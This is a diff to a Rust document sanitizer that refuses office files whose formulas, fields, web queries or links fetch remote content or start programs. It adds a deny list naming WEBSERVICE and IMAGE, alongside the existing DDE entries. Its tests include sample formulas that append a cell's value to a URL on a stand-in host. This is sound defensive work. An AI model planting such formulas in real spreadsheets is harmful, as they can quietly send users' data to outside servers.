@@ -15,18 +15,32 @@ const FETCHING: [&str; 6] = ["INCLUDEPICTURE", "INCLUDETEXT", "INCLUDE", "IMPORT
 /// Fields that start programs.
 const STARTING: [&str; 2] = ["DDE", "DDEAUTO"];
 
+/// Functions of a spreadsheet that fetch what lies elsewhere.
+const FETCHING_FUNCTIONS: [&str; 2] = ["WEBSERVICE(", "_XLFN.IMAGE("];
+
 /// What may lead elsewhere in an `OpenDocument`: where a click goes to, and a form is sent.
 const LINKS: [&str; 4] = ["a", "event-listener", "form", "button"];
 
-/// Refuses a part of a document of Microsoft's formats that fetches something or starts a program: by a relationship, or
-/// by a field of the text.
+/// Refuses a part of a document of Microsoft's formats that fetches something or starts a program: by a relationship, a
+/// field of the text, a formula, or a query to the web.
 pub(crate) fn refuse_in_office_open_xml(part: impl Read) -> Result<(), PhotoError> {
     let mut fields = Fields::default();
+    let mut formula: Option<String> = None;
     let mut pieces = Pieces::of(part);
     while let Some(piece) = pieces.next()? {
         match piece {
-            Piece::Text(text) => fields.say(&text),
+            Piece::Text(text) => {
+                fields.say(&text);
+                if let Some(formula) = formula.as_mut().filter(|formula| formula.len() < FIELD_MAX) {
+                    formula.push_str(&text);
+                }
+            }
             Piece::Tag(tag) => match local_name(&tag) {
+                "f" | "definedName" if tag.starts_with('/') => refuse_formula(&formula.take().unwrap_or_default())?,
+                "f" | "definedName" => formula = (!tag.ends_with('/')).then(String::new),
+                "webPr" if attribute(&tag, "url").is_some_and(|target| is_elsewhere(&target)) => {
+                    return Err(PhotoError::External);
+                }
                 "Relationship" => refuse_relationship(&tag)?,
                 "ddeLink" => return Err(PhotoError::Macros),
                 "fldSimple" => refuse_field(&attribute(&tag, "instr").unwrap_or_default())?,
@@ -48,6 +62,7 @@ pub(crate) fn refuse_in_open_document(part: impl Read) -> Result<(), PhotoError>
         if name.starts_with("dde-") {
             return Err(PhotoError::Macros);
         }
+        refuse_formula(&attribute(&tag, "formula").unwrap_or_default())?;
         let Some(target) = attribute(&tag, "href") else { continue };
         if is_script(&target) {
             return Err(PhotoError::Macros);
@@ -113,6 +128,13 @@ fn refuse_field(said: &str) -> Result<(), PhotoError> {
     if is_fetched { Err(PhotoError::External) } else { Ok(()) }
 }
 
+fn refuse_formula(formula: &str) -> Result<(), PhotoError> {
+    let written: String = formula.chars().filter(|c| !c.is_whitespace()).collect();
+    let written = written.to_ascii_uppercase();
+    let is_fetching = FETCHING_FUNCTIONS.iter().any(|function| written.contains(function));
+    if is_fetching || formula.len() >= FIELD_MAX { Err(PhotoError::External) } else { Ok(()) }
+}
+
 /// Whether an address leads off the machine of whoever opens the document. Paths on that machine are left from the
 /// author's own: programs note there which template a document was begun with.
 fn is_elsewhere(target: &str) -> bool {
@@ -176,6 +198,33 @@ mod tests {
 
     fn field(said: &str) -> &'static str {
         refuse_field(said).map_or_else(|error| error.code(), |()| "fine")
+    }
+
+    #[test]
+    fn spreadsheets_fetch_by_formulas_and_queries() {
+        let sheet =
+            |part: &str| refuse_in_office_open_xml(part.as_bytes()).map_or_else(|error| error.code(), |()| "fine");
+        for away in [
+            "<c r='A1'><f>_xlfn.WEBSERVICE(&quot;http://x/&quot;&amp;A2)</f><v>1</v></c>",
+            "<c><f>1+<!-- -->webservice (B1)</f></c>",
+            "<c><f t='array' ref='A1'>_xlfn.IMAGE(\"https://x/y.png\")</f></c>",
+            "<definedName name='x'>WEBSERVICE(\"http://x\")</definedName>",
+            "<connection id='1'><webPr url='http://x/y' parsePre='1'/></connection>",
+        ] {
+            assert_eq!(sheet(away), "external", "{away}");
+        }
+        assert_eq!(sheet(&format!("<f>{}</f>", "1+".repeat(FIELD_MAX))), "external");
+        for here in [
+            "<c><f>SUM(A1:A9)</f></c><c t='s'><v>WEBSERVICE(1)</v></c>",
+            "<c><f t='shared' si='0'/><v>WEBSERVICE(1)</v></c>",
+            "<f>IMAGE(A1)</f>",
+            "<connection><webPr url='#Blad1'/></connection>",
+        ] {
+            assert_eq!(sheet(here), "fine", "{here}");
+        }
+        let open = |part: &str| refuse_in_open_document(part.as_bytes()).map_or_else(|error| error.code(), |()| "fine");
+        assert_eq!(open("<table:table-cell table:formula='of:=WEBSERVICE(&quot;http://x&quot;)'/>"), "external");
+        assert_eq!(open("<table:table-cell table:formula='of:=SUM([.A1:.A9])'/>"), "fine");
     }
 
     #[test]
